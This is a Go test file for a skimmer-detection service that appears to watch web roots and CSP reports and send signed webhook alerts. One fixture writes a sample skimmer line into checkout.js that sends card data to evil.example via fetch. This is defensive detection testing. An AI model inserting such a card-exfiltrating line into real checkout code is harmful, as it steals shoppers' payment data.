package service

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/skimwatch/skimwatch/internal/alert"
	"github.com/skimwatch/skimwatch/internal/fim"
	"github.com/skimwatch/skimwatch/internal/monitor"
	"github.com/skimwatch/skimwatch/internal/store"
)

// watchedServe runs serve on a web root with `watch: true` and a verify
// interval far beyond the test, so that only the watcher can see a change
// after the first verify; the config's own signed webhook is the sink. It
// returns once the first verify and the watcher's start sweep have run on
// the clean tree, with the store serve records in.
func watchedServe(t *testing.T) (root string, recv *webhookReceiver, st store.Store) {
	t.Helper()
	dir := t.TempDir()
	root, base := webRoot(t, dir, "shop")
	recv = &webhookReceiver{t: t, secret: []byte("a-webhook-secret-of-the-shop")}
	hook := httptest.NewServer(recv)
	t.Cleanup(hook.Close)
	t.Setenv("SKIMWATCH_STORE", "")
	t.Setenv("TEST_WEBHOOK_SECRET", string(recv.secret))
	cfg := parse(t, fmt.Sprintf("data_dir: %s\nlisten: 127.0.0.1:0\nmetrics_listen: 127.0.0.1:0\n"+
		"sites:\n  - name: shop\n    web_roots:\n      - {path: %s, baseline: %s, every: 1h, watch: true}\n"+
		"alerts:\n  - webhook: {url: %s, secret: {env: TEST_WEBHOOK_SECRET}}\n", dir, root, base, hook.URL))
	api, _ := startServe(t, cfg, Options{
		Monitor: monitor.Options{PollInterval: 50 * time.Millisecond},
		Alerts:  alert.Options{Window: -1},
	})
	// The first verify is done, its clean run handed to the alerter (else
	// it could resolve what the watch sees next), and the watcher's start
	// sweep is filed, so that what follows is a change under watch: one the
	// verify saw (its next run is an hour away) would not test the watcher.
	waitFirstVerify(t, api, apiToken(t, cfg), root)
	st = serveStore(t, dir)
	waitEvents(t, st, "shop", "fim watch")
	return root, recv, st
}

// TestServeWatchAlertsOnAWebRootWriteAndItsRestore: with `watch: true` a
// write to the web root raises one signed incident and restoring the file
// one resolution, long before the root's next verify (an hour away).
func TestServeWatchAlertsOnAWebRootWriteAndItsRestore(t *testing.T) {
	root, recv, st := watchedServe(t)
	js := filepath.Join(root, "checkout.js")
	original, err := os.ReadFile(js)
	if err != nil {
		t.Fatal(err)
	}
	steps := []struct {
		name    string
		content []byte
		typ     string
	}{
		{"a skimmer written into the web root is one incident naming the file", []byte("pay();fetch('https://evil.example/'+card)\n"), alert.TypeIncident},
		{"the file restored to its baseline content is one resolution", original, alert.TypeResolved},
	}
	for i, st := range steps {
		t.Run(st.name, func(t *testing.T) {
			if err := os.WriteFile(js, st.content, 0o644); err != nil {
				t.Fatal(err)
			}
			got := recv.waitFor(t, i+1)
			a := got[i]
			if a.Type != st.typ || a.Site != "shop" || len(a.Items) != 1 || a.Items[0].Kind != fim.KindModified {
				t.Fatalf("alert %d = %+v, want %s on shop about one %s", i, a, st.typ, fim.KindModified)
			}
			if a.Items[0].Detector != monitor.DetectorFim {
				t.Errorf("detector %q, want %q", a.Items[0].Detector, monitor.DetectorFim)
			}
		})
	}
	// A file added next is an alert that must come after any the write or
	// the restore could still cause: the watch hands on its changes in
	// order, and each run's alerts are queued before the next is observed.
	// Once it is here and the queue is drained, an extra alert would be too.
	if err := os.WriteFile(filepath.Join(root, "marker.js"), []byte("mark();\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	got := recv.waitForWithin(t, 3, quietWait)
	waitDrained(t, st)
	if a := got[2]; a.Type != alert.TypeIncident || len(a.Items) != 1 || a.Items[0].Kind != fim.KindAdded || a.Items[0].Path != "marker.js" {
		t.Fatalf("alert 2 = %+v, want the incident about the added marker.js alone", a)
	}
	if types, queued := recv.types(), queuedAlerts(t, st); len(types) != 3 || len(queued) != 3 || recv.bad != 0 {
		t.Fatalf("the webhook has %v (%d with a bad signature) and the store queued %d alerts, want one incident and one resolution before the marker's incident", types, recv.bad, len(queued))
	}
}

// TestServeAlertsOnANewCSPFindingAtOnce: a browser's report of a new
// script origin reaches the webhook as one incident within seconds, though
// the site's evaluation interval is ten minutes away; more reports of the
// same origin (a growing count in the finding's text) add no alert.
func TestServeAlertsOnANewCSPFindingAtOnce(t *testing.T) {
	const key = "shop-site-key-0123456789abcdef"
	t.Setenv("TEST_COLLECTOR_KEY", key)
	dir := t.TempDir()
	y := fmt.Sprintf("data_dir: %s\nlisten: 127.0.0.1:0\nmetrics_listen: 127.0.0.1:0\n"+
		"sites:\n  - name: shop\n    collector_key: {env: TEST_COLLECTOR_KEY}\n    every: 10m\n", dir)
	api, _, recv := hookServe(t, y, Options{Monitor: monitor.Options{PollInterval: 50 * time.Millisecond}})
	st := serveStore(t, dir)
	post := func(t *testing.T, blocked string) {
		t.Helper()
		body := `{"csp-report":{"document-uri":"https://shop.example/checkout","effective-directive":"script-src-elem",` +
			`"blocked-uri":"` + blocked + `","disposition":"report"}}`
		req, err := http.NewRequest(http.MethodPost, api+"/r/"+key, strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Content-Type", "application/csp-report")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode/100 != 2 {
			t.Fatalf("report answered %s", resp.Status)
		}
	}
	// counted accepts the origin's finding once it counts n reports: the
	// flush that wrote the n-th report has evaluated it.
	counted := func(origin string, n int) func(store.StoredFinding) bool {
		return func(f store.StoredFinding) bool {
			c, _ := f.Evidence["count"].(float64)
			return f.Kind == "csp.unapproved-script" && f.Evidence["blocked"] == origin && int(c) >= n
		}
	}
	post(t, "https://evil.example/skim.js")
	got := recv.waitFor(t, 1)
	if a := got[0]; a.Type != alert.TypeIncident || a.Site != "shop" || !hasItem(a, "csp.unapproved-script") {
		t.Fatalf("alert = %+v, want an incident on shop with csp.unapproved-script", a)
	}
	// Each report in a flush of its own, so the finding's count grows three
	// times.
	for n := 2; n <= 4; n++ {
		post(t, "https://evil.example/skim.js")
		waitFinding(t, st, "shop", fmt.Sprintf("of evil.example counting %d reports", n), counted("https://evil.example", n))
	}
	// A report of another new origin raises the next alert: its evaluation
	// hands the alerter every collector finding of the site, so an alert the
	// growing count made due is queued before or with it. Once it is here
	// and the queue is drained, an extra alert would be too.
	post(t, "https://marker.example/m.js")
	got = recv.waitForWithin(t, 2, quietWait)
	waitDrained(t, st)
	if a := got[1]; a.Type != alert.TypeIncident || len(a.Items) != 1 || !strings.Contains(a.Items[0].Message, "marker.example") {
		t.Fatalf("alert 1 = %+v, want the incident about marker.example alone", a)
	}
	if types, queued := recv.types(), queuedAlerts(t, st); len(types) != 2 || len(queued) != 2 {
		t.Fatalf("the webhook has %v and the store queued %d alerts, want the one incident of evil.example and the marker's", types, len(queued))
	}
}
